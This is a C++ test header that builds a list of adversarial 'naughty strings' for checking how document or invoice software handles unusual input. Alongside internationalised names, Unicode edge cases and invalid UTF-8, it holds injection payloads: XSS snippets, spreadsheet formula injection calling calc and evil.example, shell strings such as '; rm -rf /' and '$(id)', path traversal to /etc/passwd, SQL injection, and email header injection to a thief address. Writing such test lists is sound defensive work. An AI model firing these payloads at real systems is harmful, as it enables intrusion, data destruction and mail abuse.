// Names that programs stumble over, made by rules rather than collected: whatever a customer is called, he is called so
// everywhere.
#pragma once
#include <host_sdk/kit/encoding/utf8.hpp>
#include <string>
#include <vector>

namespace test {

struct NaughtyString {
  std::string text;
  bool isPlain = false;  // letters of Europe on one short line: every reader of a PDF must find it again as it is
};

/// The code point as UTF-8, also of what is no character (surrogates).
inline std::string utf8(char32_t code) {
  std::string out;
  kit::encoding::appendUtf8(out, code);
  return out;
}

inline std::string repeated(const std::string& text, int times) {
  std::string out;
  for (int i = 0; i < times; ++i) out += text;
  return out;
}

inline std::vector<NaughtyString> naughtyStrings() {
  std::vector<NaughtyString> all;
  const auto add = [&](const std::string& text, bool isPlain = false) { all.push_back({text, isPlain}); };

  // Plain names that need their letters.
  for (const char* name : {"Dupont & Fils",
                           "O'Brien",
                           "D'Œuvre-Élan",
                           "Müller GmbH",
                           "Ångström AB",
                           "Šimůnek s.r.o.",
                           "Łódź Sp. z o.o.",
                           "Ñandú, S.A.",
                           "Αθήνα ΑΕ",
                           "Москва ООО",
                           "İstanbul A.Ş.",
                           "Đorđe",
                           "Þór ehf.",
                           "Ça va ?",
                           "100 % coton",
                           "n° 12/3",
                           "€uro",
                           "\"Quoted\"",
                           "Back\\slash",
                           "a_b",
                           "C# & C++",
                           "50 £",
                           "Smith (Bros.)",
                           "null",
                           "NULL",
                           "None",
                           "nil",
                           "undefined",
                           "NaN",
                           "true",
                           "0",
                           "-1",
                           "1e309",
                           "1/0",
                           "007",
                           "Infinity",
                           "Test;Name",
                           "Tom, Dick",
                           "a|b",
                           "~name",
                           "`name`",
                           "select *",
                           "#name",
                           "Robert'); DROP TABLE invoice;--"})
    add(name, true);

  // Signs of control, one by one, at the beginning, inside and at the end.
  for (char32_t code = 0; code < 0x20; ++code) add("a" + utf8(code) + "b");
  for (const char32_t code : {0x7F, 0x80, 0x85, 0x9B, 0x9F}) add("a" + utf8(static_cast<char32_t>(code)) + "b");
  for (const char* code : {"\r\n", "\n", "\t", "\x1b[31m", "\x1b]0;title\x07", "\x08\x08\x08"}) {
    add(std::string(code) + "begins");
    add("ends" + std::string(code));
    add("in" + std::string(code) + "side");
  }
  add("Name\r\nBcc: thief@evil.example");
  add("Name\n.\nRCPT TO:<thief@evil.example>");
  add("a\nb\nc\nd\ne\nf\ng\nh\ni\nj\nk\nl");

  // Markup of every kind, in every quotation.
  const std::vector<std::string> inside{"<script>alert(1)</script>",
                                        "<img src=x onerror=alert(1)>",
                                        "<svg/onload=alert(1)>",
                                        "javascript:alert(1)",
                                        "<b>bold</b>",
                                        "<br/>",
                                        "<!-- remark -->",
                                        "<![CDATA[x]]>",
                                        "]]>",
                                        "&lt;",
                                        "&amp;amp;",
                                        "&#0;",
                                        "&#x41;",
                                        "&nbsp;",
                                        "<?xml version=\"1.0\"?>",
                                        "<w:p/>",
                                        "</w:t></w:r>",
                                        "<!DOCTYPE x [<!ENTITY a \"b\">]>",
                                        "&a;",
                                        "<style>*{display:none}</style>",
                                        "</title>",
                                        "</textarea>"};
  for (const auto& each : inside)
    for (const std::string around : {"", "\"", "'", "\">", "'>"}) add(around + each);

  // What spreadsheets reckon, and what shells and databases do.
  for (const std::string sign : {"=", "+", "-", "@", "\t=", "\r=", " =", "'="})
    for (const std::string rest : {"1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"x\")", "SUM(A1:A9)"})
      add(sign + rest);
  for (const char* text :
       {"$(id)", "`id`", "; rm -rf /", "| cat", "%s%n%x", "%00", "{0}", "${x}", "../../etc/passwd", "C:\\con\\nul",
        "a/b\\c:d*e?f", "' or '1'='1", "\" or \"\"=\"", "1; drop table x", "\\0", "\\n", "%d", "%1$*2$d"})
    add(text);

  // Fields of templates are no fields in a value.
  for (const char* text :
       {"{{company.iban}}", "{{{x}}}", "{{#invoices}}", "{{/invoices}}", "{{", "}}", "{{! x}}", "{{> x}}", "{{=<% %>=}}", "#REF#",
        "%(partner_name)s", "li_prop_mail", "[[nom_client]]", "MERGEFIELD date", "«date»", "{date}", "%%"})
    add(text);

  // Directions, breadths, marks: what is seen is not what is there.
  for (const char* text : {"שלום עליכם",
                           "مرحبا بالعالم",
                           "abc שלום 123",
                           "(שלום)",
                           "ا",
                           "ﷺ",
                           "नमस्ते",
                           "ไทย",
                           "日本語の名前",
                           "中文公司",
                           "한국어",
                           "𝒜𝓁𝒾𝒸ℯ",
                           "Ａｌｉｃｅ",
                           "Ⓐⓛⓘⓒⓔ",
                           "𠜎𠜱",
                           "ǅ",
                           "ﬁ",
                           "ß",
                           "ı",
                           "K"})
    add(text);
  for (char32_t code = 0x202A; code <= 0x202E; ++code) add("a" + utf8(code) + "gnp.exe");
  for (char32_t code = 0x2066; code <= 0x2069; ++code) add("a" + utf8(code) + "b");
  for (const int code : {0x00AD, 0x034F, 0x061C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F,  0x2028, 0x2029,
                         0x2060, 0x2061, 0x2800, 0x3164, 0xFE0F, 0xFEFF, 0xFFF9, 0xFFFC, 0xFFFD, 0xE0001, 0xE0041}) {
    add("a" + utf8(static_cast<char32_t>(code)) + "b");
    add(utf8(static_cast<char32_t>(code)));
  }
  for (const int code : {0x00A0, 0x1680, 0x2000, 0x2003, 0x2009, 0x202F, 0x205F, 0x3000})
    add("a" + utf8(static_cast<char32_t>(code)) + "b");
  for (const int marks : {1, 3, 20, 200}) {
    std::string text;
    for (const char letter : std::string("Zalgo")) {
      text += letter;
      for (int i = 0; i < marks; ++i) text += utf8(static_cast<char32_t>(0x0300 + (i * 7) % 0x70));
    }
    add(text);
  }
  add("e" + utf8(0x301));  // é in two
  add(utf8(0x301));        // a mark on nothing

  // Pictures.
  for (const char* text : {"😀", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇫🇷🇩🇪", "👍🏽", "1️⃣", "🧾💶 Factures",
                           "❤️", "☠", "🀄", "©®™"})
    add(text);

  // What is no character.
  for (const int code : {0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xFDD0, 0xE000, 0xF8FF, 0x100000})
    add("a" + utf8(static_cast<char32_t>(code)) + "b");
  for (const int code : {0xD800, 0xDBFF, 0xDC00, 0xDFFF}) add("a" + utf8(static_cast<char32_t>(code)) + "b");
  for (const char* bytes : {"\x80", "\xBF", "\xC0\x80", "\xC1\xBF", "\xE0\x80\xAF", "\xF0\x80\x80\xAF", "\xF5\x80\x80\x80",
                            "\xFE", "\xFF", "\xE2\x82", "\xF0\x9F\x98", "\xC3"})
    add("a" + std::string(bytes) + "b");
  add("\xFF\xFE"
      "a");
  add("\xEF\xBB\xBF"
      "a");

  // Long, empty and bare.
  add("");
  add(" ");
  add(repeated(" ", 100));
  add(repeated("x", 10'000));
  add(repeated("é", 5'000));
  add(repeated("mot ", 2'000));
  add(repeated("😀", 1'000));
  add(repeated("<", 2'000));
  add(repeated("&", 2'000));
  add(repeated("\"", 1'000));
  add(repeated("{{", 500));
  add(repeated("a\n", 300));
  add(repeated(utf8(0x200B), 500));
  return all;
}

}  // namespace test
